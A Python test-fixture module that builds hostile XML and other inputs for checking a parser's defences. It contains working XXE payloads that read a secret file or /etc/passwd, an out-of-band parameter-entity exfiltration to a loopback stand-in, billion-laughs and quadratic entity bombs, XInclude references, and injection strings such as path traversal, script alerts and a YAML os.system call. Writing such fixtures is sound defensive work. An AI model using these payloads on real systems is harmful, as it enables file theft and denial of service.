"""Files of strangers: XML that wants to read files, fill the memory or confuse whoever reads it.

Each is made from a file that is fine: `{text}` stands where people write text, `{name}` in an attribute.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

SECRET = "root-of-all-secrets"
NOWHERE = "http://127.0.0.1:9/x"


def documents(fine: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Hostile files by name; those whose name begins with "doctype" have one."""
    yield from _doctypes(fine, secret)
    yield from _hidden_doctypes(fine, secret)
    yield from _references(fine, secret)
    yield from _sizes(fine)
    yield from _characters(fine)
    yield from _broken(fine)
    yield from _something_else()


def filled(fine: str, text: str = "text", name: str = "name") -> str:
    """The file that is fine, with these words in it."""
    return fine.replace("{text}", text).replace("{name}", name)


def laughs(levels: int = 9, times: int = 10) -> str:
    """Entities that hold the one before ten times."""
    rest = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels + 1))
    return f'<!ENTITY l0 "{"ha" * 10}">{rest}<!ENTITY x "&l{levels};">'


def _doctypes(fine: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    inner = {
        "external entity": f'<!ENTITY x SYSTEM "file://{secret}">',
        "external entity by path": f'<!ENTITY x SYSTEM "{secret}">',
        "external entity by a longer way": f'<!ENTITY x SYSTEM "{secret.parent}/./{secret.name}">',
        "public entity": f'<!ENTITY x PUBLIC "p" "file://{secret}">',
        "external entity behind a plain one": f'<!ENTITY y SYSTEM "file://{secret}"><!ENTITY x "&y;">',
        "network entity": f'<!ENTITY x SYSTEM "{NOWHERE}">',
        "ftp entity": '<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">',
        "php entity": '<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">',
        "jar entity": '<!ENTITY x SYSTEM "jar:file:///tmp/x.zip!/x">',
        "device entity": '<!ENTITY x SYSTEM "file:///dev/zero">',
        "folder entity": '<!ENTITY x SYSTEM "file:///etc/">',
        "parameter entity": f'<!ENTITY % p SYSTEM "file://{secret}"> %p; <!ENTITY x "1">',
        "parameter entity from the network": f'<!ENTITY % p SYSTEM "{NOWHERE}"> %p; <!ENTITY x "1">',
        "nested parameter": "<!ENTITY % a '<!ENTITY x \"1\">'> %a;",
        "parameter that sends": (
            f'<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e \'<!ENTITY x SYSTEM "{NOWHERE}?%f;">\'> %e;'
        ),
        "plain entity": '<!ENTITY x "1">',
        "entity with elements": "<!ENTITY x '<b xmlns=\"urn:b\">1</b>'>",
        "entity that redefines amp": '<!ENTITY amp "&#38;#38;"><!ENTITY x "&amp;">',
        "laughs": laughs(),
        "laughs in parameters": (
            "<!ENTITY % a 'aaaaaaaaaa'><!ENTITY % b '%a;%a;%a;%a;%a;%a;'>"
            "<!ENTITY % c '%b;%b;%b;'><!ENTITY x '1'>"
        ),
        "long entity": f'<!ENTITY x "{"a" * 50_000}">',
        "loop": '<!ENTITY x "&y;"><!ENTITY y "&x;">',
        "loop of one": '<!ENTITY x "&x;">',
        "unparsed": f'<!NOTATION n SYSTEM "n"><!ENTITY y SYSTEM "file://{secret}" NDATA n><!ENTITY x "1">',
        "attribute default": f'<!ATTLIST text v CDATA "{"a" * 1000}"><!ENTITY x "1">',
        "element rule": '<!ELEMENT definitions EMPTY><!ENTITY x "1">',
    }
    for name, declared in inner.items():
        head = f"<!DOCTYPE definitions [{declared}]>"
        yield f"doctype: {name}", (head + filled(fine, text="&x;")).encode()
    yield (
        "doctype: quadratic",
        (f'<!DOCTYPE a [<!ENTITY x "{"a" * 20_000}">]>' + filled(fine, text="&x;" * 45)).encode(),
    )
    yield (
        "doctype: laughs in an attribute",
        (f"<!DOCTYPE a [{laughs()}]>" + filled(fine, name="&x;")).encode(),
    )
    for name, subset in {
        "external subset": f'SYSTEM "file://{secret}"',
        "network subset": f'SYSTEM "{NOWHERE}.dtd"',
        "public subset": f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{NOWHERE}.dtd"',
        "nothing at all": "",
        "empty": "[]",
        "comment": "[<!-- <!ENTITY x '1'> -->]",
    }.items():
        yield f"doctype: {name}", f"<!DOCTYPE definitions {subset}>{filled(fine)}".encode()


def _hidden_doctypes(fine: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    declared = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>'
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp037", "utf-7"):
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        yield f"doctype in {encoding}", (head + declared + filled(fine, text="&x;")).encode(encoding)
    yield "doctype behind a comment", f"<!-- {'x' * 5000} -->{declared}{filled(fine)}".encode()
    yield "doctype behind an instruction", f"<?a b?>{declared}{filled(fine)}".encode()
    yield "doctype behind a byte order mark", b"\xef\xbb\xbf" + (declared + filled(fine)).encode()
    yield "doctype with blanks", f"<!DOCTYPE{' ' * 5000}a>{filled(fine)}".encode()


def _references(fine: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Nothing of this is refused for its form; what it points at must not be fetched."""
    include = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{}" parse="text"/>'
    yield "xinclude of a file", filled(fine, text=include.format(f"file://{secret}")).encode()
    yield "xinclude of a path", filled(fine, text=include.format(secret)).encode()
    yield "xinclude from the network", filled(fine, text=include.format(NOWHERE)).encode()
    yield "stylesheet", f'<?xml-stylesheet href="file://{secret}"?>{filled(fine)}'.encode()
    space = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
    for name, attribute in {
        "schema location": f'{space}i:schemaLocation="urn:x file://{secret}"',
        "schema without namespace": f'{space}i:noNamespaceSchemaLocation="file://{secret}"',
        "base": f'xml:base="file://{secret}"',
        "link": f'xmlns:l="http://www.w3.org/1999/xlink" l:href="file://{secret}"',
        "namespace of a path": f'xmlns:l="file://{secret}"',
    }.items():
        yield name, filled(fine).replace(" id=", f" {attribute} id=", 1).encode()
    for name, words in {
        "path as a name": "../../../../etc/passwd",
        "quotes as a name": "a&apos; or &apos;1&apos;=&apos;1",
        "markup as a name": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "template as a name": "{{ 7*7 }}${7*7}#{7*7}&lt;%= 7 %&gt;",
        "format as a name": "%s%n{0.__class__}",
    }.items():
        yield name, filled(fine, name=words).encode()


def _sizes(fine: str) -> Iterator[tuple[str, bytes]]:
    yield "too large", filled(fine, text=" " * 3_000_000).encode()
    yield "too large by a comment", (filled(fine) + f"<!-- {'x' * 3_000_000} -->").encode()
    yield "too large by an attribute", filled(fine, name="c" * 3_000_000).encode()
    yield "long text", filled(fine, text="a" * 1_900_000).encode()
    yield "deep and open", b"<a>" * 100_000
    yield "deep and closed", filled(fine, text="<a>" * 250 + "</a>" * 250).encode()
    yield "very deep and closed", b"<a>" * 200_000 + b"</a>" * 200_000
    yield "deep in other namespaces", filled(fine, text='<a xmlns="urn:a">' * 250 + "</a>" * 250).encode()
    yield "many children", filled(fine, text="<a/>" * 100_000).encode()
    yield "many attributes", b"<a " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>"
    yield "many namespaces", b"<a " + b" ".join(b'xmlns:a%d="u"' % n for n in range(20_000)) + b"/>"
    yield "long name of an element", b"<" + b"a" * 1_000_000 + b"/>"
    yield "long name of an attribute", b"<a " + b"b" * 1_000_000 + b'="1"/>'
    yield "long prefix", b"<" + b"p" * 1_000_000 + b":a/>"
    yield "long instruction", b"<?a " + b"b" * 1_900_000 + b"?><a/>"


def _characters(fine: str) -> Iterator[tuple[str, bytes]]:
    yield "null bytes", filled(fine, text="a\0b").encode()
    yield "control characters", filled(fine, text="a\x01&#1;").encode()
    yield "surrogate", filled(fine, text="&#xD800;").encode()
    yield "character beyond all", filled(fine, text="&#x110000;").encode()
    yield "long character reference", filled(fine, text=f"&#{'9' * 100_000};").encode()
    yield "no utf-8", filled(fine, text="@").encode().replace(b"@", b"\xff\xfe\xfd")
    yield "overlong utf-8", filled(fine, text="@").encode().replace(b"@", b"\xc0\xbc")
    yield "half a character", filled(fine).encode() + b"\xe2\x82"
    yield "unknown encoding", b'<?xml version="1.0" encoding="x-nobody"?>' + filled(fine).encode()
    yield "wrong encoding", b'<?xml version="1.0" encoding="utf-16"?>' + filled(fine).encode()
    yield "byte order mark of another", b"\xff\xfe" + filled(fine).encode()
    yield "end of CDATA in text", filled(fine, text="a]]>b").encode()


def _broken(fine: str) -> Iterator[tuple[str, bytes]]:
    whole = filled(fine)
    yield "truncated", whole[:-20].encode()
    yield "cut in a tag", whole[: whole.index(" id=") + 3].encode()
    yield "two roots", (whole + whole).encode()
    yield "text behind the root", (whole + "more").encode()
    yield "declaration twice", ('<?xml version="1.0"?>' * 2 + whole).encode()
    yield "declaration behind a blank", (' <?xml version="1.0"?>' + whole).encode()
    yield "the same attribute twice", whole.replace(" id=", ' id="x" id=', 1).encode()
    yield "attribute without quotes", whole.replace(" id=", " a=b id=", 1).encode()
    yield "less-than in an attribute", filled(fine, name="<").encode()
    yield "entity that nobody declared", filled(fine, text="&nbsp;").encode()
    yield "prefix that nobody declared", filled(fine, text="<nobody:a/>").encode()
    yield "end that fits no begin", filled(fine, text="</b>").encode()
    yield "comment with two dashes", filled(fine, text="<!-- a -- b -->").encode()
    yield "open comment", filled(fine, text="<!--").encode()
    yield "open CDATA", filled(fine, text="<![CDATA[").encode()
    yield "reserved prefix", filled(fine, text='<a xmlns:xml="urn:x"/>').encode()


def _something_else() -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "blanks", b" \n" * 10
    yield "words", b"hello"
    yield "all bytes", bytes(range(256))
    yield "zip", b"PK\x03\x04" + b"\0" * 100
    yield "gzip", b"\x1f\x8b\x08" + b"\0" * 100
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3"
    yield "json", b'{"definitions": []}'
    yield "yaml", b"!!python/object/apply:os.system [id]"
    yield "html", b"<html><script>alert(1)</script></html>"
    yield "svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "soap", b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>'
    yield "the root without its namespace", b"<definitions/>"
    yield "the root in a namespace of its own", b'<definitions xmlns="http://example.com/"/>'
